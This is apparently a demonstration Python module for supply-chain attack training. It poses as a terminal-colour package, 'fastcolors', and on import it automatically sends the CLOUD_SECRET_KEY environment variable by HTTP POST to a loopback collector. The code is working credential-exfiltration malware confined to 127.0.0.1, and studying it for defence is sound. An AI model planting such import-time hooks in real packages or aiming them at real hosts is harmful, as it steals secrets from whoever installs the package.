# SPDX-License-Identifier: GPL-2.0-only
"""Colours for the terminal.  Demonstration of a poisoned package: it does what it says, and at import
it also sends a secret of the environment away, as releases put up under a look-alike name do.  It can
reach no farther than the loopback listener whose address the demo fills in below."""

import http.client
import os

_HOST, _PORT = "127.0.0.1", int("@COLLECTOR_PORT@")


def describe():
    return "fastcolors: \033[32mgreen\033[0m"


def _phone_home():
    connection = http.client.HTTPConnection(_HOST, _PORT, timeout=5)
    connection.request("POST", "/collect", body=os.environ["CLOUD_SECRET_KEY"])
    connection.getresponse().read()
    connection.close()


_phone_home()
